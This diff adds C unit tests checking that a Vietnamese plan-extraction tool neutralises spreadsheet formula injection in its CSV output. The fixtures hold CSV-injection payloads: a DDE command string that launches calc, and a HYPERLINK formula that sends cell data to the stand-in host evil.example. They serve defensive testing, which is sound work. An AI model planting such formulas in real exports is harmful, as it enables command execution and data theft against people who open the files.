@@ -1324,6 +1324,60 @@ START_TEST(bad_strings_replaced) {
 }
 END_TEST
 
+/* Would a spreadsheet read this CSV cell as a formula?  One that begins
+ * with '=', '+', '-', '@', tab or CR does, unless it is a plain number
+ * ("-5"). */
+static bool spreadsheet_formula(const char *cell) {
+  if (!cell || !cell[0] || !strchr("=+-@\t\r", cell[0]))
+    return false;
+  regex_t number;
+  ck_assert_int_eq(
+      regcomp(&number, "^-?[0-9]+(\\.[0-9]+)?$", REG_EXTENDED | REG_NOSUB), 0);
+  bool formula = regexec(&number, cell, 0, NULL, 0) != 0;
+  regfree(&number);
+  return formula;
+}
+
+/* No cell of a CSV table is one a spreadsheet reads as a formula. */
+static void assert_no_formula(const csv_table *t) {
+  for (size_t i = 0; i < t->n; i++)
+    for (size_t k = 0; k < t->rows[i].n; k++)
+      ck_assert_msg(!spreadsheet_formula(t->rows[i].f[k]),
+                    "row %zu, column %s: [%s] is a formula", i,
+                    k < NCSV ? CSV_HEADER[k] : "?", t->rows[i].f[k]);
+}
+
+/* Cells that begin like a formula get a leading apostrophe (the OWASP
+ * rule); numbers keep their sign. */
+START_TEST(csv_formulas_neutralized) {
+  cchc_frame *f = hand_frame();
+  f->path = "=cmd|' /C calc'!A0.txt";
+  f->document.place.value = "@SUM(A1:A9)";
+  f->targets[0].subject = "\t=1+2";
+  f->targets[0].text = "\r=HYPERLINK(\"http://x.example\")";
+  f->targets[0].unit = "+%";
+  f->targets[0].value = -5;
+  f->targets[1].text = "- 95%, \"một cửa\"";
+  size_t len;
+  char *out = render(f, CCHC_FORMAT_CSV, 0, &len);
+  csv_table t = csv_read(out, len);
+  ck_assert_uint_eq(t.n, 3);
+  assert_no_formula(&t);
+  assert_field(&t.rows[0], 0, "'=cmd|' /C calc'!A0.txt");
+  assert_field(&t.rows[0], 1, "'@SUM(A1:A9)");
+  assert_field(&t.rows[0], 7, "'\t=1+2");
+  assert_field(&t.rows[0], 8, ">=");
+  assert_field(&t.rows[0], 9, "-5"); /* a number, not a formula */
+  assert_field(&t.rows[0], 11, "'+%");
+  assert_field(&t.rows[0], 12, "'\r=HYPERLINK(\"http://x.example\")");
+  assert_field(&t.rows[1], 12, "'- 95%, \"một cửa\"");
+  assert_field(&t.rows[1], 8, "range");
+  csv_table_free(&t);
+  free(out);
+  cchc_frame_free(f);
+}
+END_TEST
+
 /* ------------------------------------------------------------------ */
 /* CLI                                                                 */
 
@@ -1535,6 +1589,7 @@ START_TEST(cli_corpus_streams) {
   ck_assert_uint_ge(t.n, 1);
   ck_assert(is_header(&t.rows[0]));
   ck_assert_uint_eq(t.n - 1, targets);
+  assert_no_formula(&t);
   for (size_t i = 1; i < t.n; i++) {
     ck_assert_uint_eq(t.rows[i].n, NCSV);
     ck_assert_msg(!is_header(&t.rows[i]), "header repeated at row %zu", i);
@@ -1545,6 +1600,53 @@ START_TEST(cli_corpus_streams) {
   csv_table_free(&t);
   harness_result_free(&r);
   free(argv);
+}
+END_TEST
+
+/* A plan crafted to plant formulas: every line, and so every target's
+ * text, begins with a formula character.  No cell of its CSV is read as
+ * a formula; the comparator, value and unit stay columns of their own. */
+START_TEST(cli_csv_crafted_plan) {
+  static const char plan[] =
+      "KẾ HOẠCH\nCải cách hành chính năm 2026\nI. MỤC TIÊU\n"
+      "=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Tỷ lệ hồ sơ giải quyết "
+      "đúng hạn đạt 98%\")\n"
+      "+ Tỷ lệ thủ tục hành chính được công khai đạt 100%.\n"
+      "- Tỷ lệ hồ sơ trực tuyến toàn trình đạt tối thiểu 80%.\n"
+      "@SUM(1+1) Tỷ lệ người dân hài lòng đạt trên 90%.\n"
+      "=1+2 Tỷ lệ văn bản điện tử đạt 95%.\n";
+  char *dir = harness_make_dir("crafted");
+  char *path = in_dir(dir, "crafted.txt");
+  write_file(path, plan, sizeof plan - 1);
+  const char *argv[] = {"extract", "-f", "csv", path, NULL};
+  harness_result r = harness_cli_run(argv, NULL, 0);
+  ck_assert_msg(r.rc == 0, "exit %d\n%s", r.rc, r.err);
+  ck_assert_msg(r.outlen >= 3 && !memcmp(r.out, BOM, 3), "no BOM");
+  csv_table t = csv_read(r.out + 3, r.outlen - 3);
+  ck_assert(is_header(&t.rows[0]));
+  ck_assert_uint_eq(t.n, 6);
+  assert_no_formula(&t);
+  static const struct {
+    const char *text, *comparator, *value;
+  } want[] = {
+      {NULL, "'=", "98"},
+      {"'+ Tỷ lệ thủ tục hành chính được công khai đạt 100%", "'=", "100"},
+      {"'- Tỷ lệ hồ sơ trực tuyến toàn trình đạt tối thiểu 80%", ">=", "80"},
+      {"'@SUM(1+1) Tỷ lệ người dân hài lòng đạt trên 90%", ">", "90"},
+      {"'=1+2 Tỷ lệ văn bản điện tử đạt 95%", "'=", "95"},
+  };
+  for (size_t i = 0; i < 5; i++) {
+    const csv_row *row = &t.rows[i + 1];
+    if (want[i].text)
+      assert_field(row, 12, want[i].text);
+    assert_field(row, 8, want[i].comparator);
+    assert_field(row, 9, want[i].value);
+    assert_field(row, 11, "%");
+  }
+  csv_table_free(&t);
+  harness_result_free(&r);
+  free(path);
+  free(dir);
 }
 END_TEST
 
@@ -1855,6 +1957,7 @@ int main(void) {
   tcase_add_test(tc, format_names);
   tcase_add_test(tc, inconsistent_frames_rejected);
   tcase_add_test(tc, bad_strings_replaced);
+  tcase_add_test(tc, csv_formulas_neutralized);
   suite_add_tcase(s, tc);
 
   tc = tcase_create("cli");
@@ -1866,6 +1969,7 @@ int main(void) {
   tcase_add_loop_test(tc, cli_corpus_json_and_xml, 0,
                       (int)(ncorpus ? ncorpus : 1));
   tcase_add_test(tc, cli_corpus_streams);
+  tcase_add_test(tc, cli_csv_crafted_plan);
   tcase_add_test(tc, cli_batch_with_bad_middle);
   tcase_add_test(tc, cli_output_dir_missing);
   tcase_add_test(tc, cli_output_atomic);
